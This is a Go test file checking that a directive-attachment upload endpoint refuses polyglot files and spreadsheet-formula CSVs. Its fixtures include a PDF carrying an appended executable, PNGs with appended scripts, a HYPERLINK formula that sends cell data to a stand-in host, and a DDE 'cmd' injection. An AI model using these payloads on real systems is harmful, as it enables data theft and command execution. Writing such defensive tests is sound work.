package api_test

import (
	"bytes"
	"testing"
	"time"

	"gorm.io/gorm"

	"github.com/tidtam/tidtam/internal/store/storetest"
	"github.com/tidtam/tidtam/models"
)

// TestUploadPolyglotsRefused: a file must be of its declared type
// throughout, not only in its first bytes. A PDF header followed by a
// Windows executable, a PNG header followed by a script, a real PNG with a
// script appended, and a CSV with a spreadsheet formula are each refused
// with 422 naming the part; nothing is stored. A real PNG, a well-formed
// PDF and a CSV of plain values (negative numbers included) are accepted.
// (Attachments and report evidence share the checks; a directive row is
// enough here, no workflow is involved before the checks.)
func TestUploadPolyglotsRefused(t *testing.T) {
	storetest.EachDB(t, func(t *testing.T, db *gorm.DB) {
		h := newHarness(t, db)
		now := time.Now().UTC()
		if err := db.Create(&models.Directive{ID: "ONCB-UPLOAD", Source: "oncb", IssuerCode: "ONCB", DocNumber: "ที่ ปส ๑/๒๕๖๘",
			DocNumberNorm: "upload-test", IssueDate: "2025-01-15", Urgency: "ปกติ", Subject: "ทดสอบไฟล์แนบ", Status: models.DirectiveIssued,
			CreatedBy: "sec", CreatedAt: now, UpdatedAt: now}).Error; err != nil {
			t.Fatal(err)
		}
		sec := h.login("sec", "secretariat-pass")
		attach := "/api/v1/directives/ONCB-UPLOAD/attachments"

		mz := append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"), bytes.Repeat([]byte{0}, 64)...)
		mz = append(mz, []byte("This program cannot be run in DOS mode.\r\r\n$")...)
		pdfPlusExe := append([]byte("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), mz...)
		pdfPlusExe = append(pdfPlusExe, []byte("\ntrailer << /Root 1 0 R >>\n%%EOF\n")...)
		pngHeader := []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")
		pngPlusScript := append(append([]byte{}, pngHeader...), []byte("<script>fetch('/api/v1/auth/tokens',{method:'POST'})</script>")...)
		realPNG := asgPNG(t, 7)
		pngThenScript := append(append([]byte{}, realPNG...), []byte("<html><script>alert(document.domain)</script></html>")...)
		formulaCSV := []byte("หน่วย,จำนวน,หมายเหตุ\nชลบุรี,12,ปกติ\nระยอง,-3,\"=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"คลิก\"\")\"\n")

		for _, c := range []struct {
			name  string
			parts []asgPart
			field string
		}{
			{"PDF header + MZ executable", []asgPart{filePart("หนังสือ.pdf", pdfPlusExe)}, "file[0]"},
			{"PNG header + <script>", []asgPart{filePart("ภาพ.png", pngPlusScript)}, "file[0]"},
			{"real PNG + appended <script>", []asgPart{filePart("ok.pdf", asgPDF("ok", 0)), filePart("ภาพ.png", pngThenScript)}, "file[1]"},
			{"CSV with a formula", []asgPart{filePart("สรุป.csv", formulaCSV)}, "file[0]"},
			{"CSV with @ command", []asgPart{filePart("a.csv", []byte("a,b\n1,@SUM(1+9)*cmd|' /C calc'!A0\n"))}, "file[0]"},
		} {
			errorOf(t, asgSend(h, attach, sec, "", c.parts...), 422, "invalid", c.field)
		}
		if n := count(t, db, &models.DirectiveAttachment{}, "directive_id = ?", "ONCB-UPLOAD"); n != 0 {
			t.Fatalf("refused uploads stored %d attachments", n)
		}

		okCSV := []byte("\ufeffหน่วย,ผลต่าง,โทรศัพท์\nชลบุรี,-12,038-123456\nระยอง,+3.5,\"a = b\"\n")
		res := asgSend(h, attach, sec, "", filePart("ภาพ.png", realPNG), filePart("หนังสือ.pdf", asgPDF("จริง", 0)), filePart("สรุป.csv", okCSV))
		if res.Status != 200 && res.Status != 201 {
			t.Fatalf("valid files: %d %s", res.Status, res.Raw)
		}
		if n := count(t, db, &models.DirectiveAttachment{}, "directive_id = ?", "ONCB-UPLOAD"); n != 3 {
			t.Fatalf("%d attachments stored, want 3", n)
		}
	})
}
